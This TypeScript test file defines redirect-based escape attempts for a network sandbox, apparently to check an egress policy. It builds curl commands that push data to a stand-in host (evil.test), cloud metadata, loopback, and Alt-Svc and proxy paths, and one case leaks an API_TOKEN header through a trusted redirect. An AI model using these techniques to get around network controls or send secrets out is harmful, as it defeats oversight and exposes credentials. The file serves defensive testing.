import type { AttackGroup } from '../../attack.ts';
import type { NetworkArena } from '../arena.ts';
import { packetTo, type Trace, tries } from '../tries.ts';

const curl = (url: string, ...options: string[]) =>
  `subprocess.run(${JSON.stringify(['curl', '-sSL', '--max-time', '5', '--max-redirs', '5', ...options, url])})`;
/** An allowed server sends the client on; the mark stands only where it is sent. */
const sent = (
  name: string,
  status: number,
  to: (mark: string) => string,
  success = elsewhere,
  ...options: string[]
) =>
  tries(name, {
    python: (mark) => curl(`https://open.test/go/${status}?to=${encodeURIComponent(to(mark))}`, ...options),
    success,
  });
/** The mark in a path of its own: the question where to go to holds it too, in its query. */
const elsewhere = ({ seen, mark }: Trace) =>
  seen.some(
    (one) =>
      (one.kind === 'request' && one.url.startsWith(`/${mark}`)) ||
      (one.kind === 'query' && one.name.includes(mark)),
  );

/** What an allowed server asks its client to do is decided as if the client had thought of it. */
export const redirects: AttackGroup<NetworkArena> = {
  name: 'redirects',
  harm: 'leak',
  control: sent('to an allowed host', 302, (mark) => `https://other.open.test/${mark}`),
  attacks: [
    sent('to a denied host', 302, (mark) => `https://evil.test/${mark}`),
    sent('to a denied host for good', 301, (mark) => `http://evil.test/${mark}`),
    sent('to a denied name', 302, (mark) => `https://${mark}.evil.test/`),
    sent('with method and body', 307, (mark) => `https://evil.test/${mark}`, elsewhere, '-d', 'x=1'),
    sent('for good with method and body', 308, (mark) => `https://evil.test/${mark}`, elsewhere, '-d', 'x=1'),
    sent('to another method', 303, (mark) => `https://evil.test/${mark}`, elsewhere, '-d', 'x=1'),
    sent('without a scheme', 302, (mark) => `//evil.test/${mark}`),
    sent('to metadata', 302, () => 'http://169.254.169.254/literal', packetTo('169.254.169.254')),
    sent('to loopback', 302, () => 'http://127.0.0.1/literal', packetTo('127.0.0.1', 80)),
    sent('to a path that is denied', 302, (mark) => `https://shop.test/${mark}`),
    sent('to a port that is denied', 302, (mark) => `https://open.test:8443/${mark}`),
    sent('from TLS to plain', 302, (mark) => `http://evil.test:80/${mark}`),
    sent('with a user', 302, (mark) => `https://open.test@evil.test/${mark}`),
    tries('in two steps', {
      python: (mark) =>
        curl(
          `https://open.test/go/302?to=${encodeURIComponent(`https://a.open.test/go/302?to=https://evil.test/${mark}`)}`,
        ),
      success: elsewhere,
    }),
    tries('by Refresh', {
      python: (mark) => `answer = get('https://open.test/say/refresh?value=0;url=https://evil.test/${mark}')
get('https://evil.test/${mark}')`,
      success: elsewhere,
    }),
    tries('by another service', {
      python:
        () => `subprocess.run(['curl', '-sS', '--alt-svc', '/tmp/alt', 'https://open.test/say/alt-svc?value=h2=%22:8443%22'])
subprocess.run(['curl', '-sS', '--alt-svc', '/tmp/alt', 'https://open.test/'])`,
      success: packetTo('11.1.1.1', 8443),
    }),
    tries('by a proxy that the server names', {
      python: (mark) => curl(`https://open.test/go/305?to=http://evil.test:8080/${mark}`),
      success: elsewhere,
    }),
    tries('of a request that carries a secret', {
      python: (mark) =>
        `subprocess.run(['curl', '-sSL', '--location-trusted', '-H', 'X-Token: ' + os.environ['API_TOKEN'], 'https://api.test/go/302?to=https://open.test/${mark}'])`,
      success: ({ seen, mark }) => seen.some((one) => one.kind === 'request' && one.url === `/${mark}`),
    }),
  ],
};
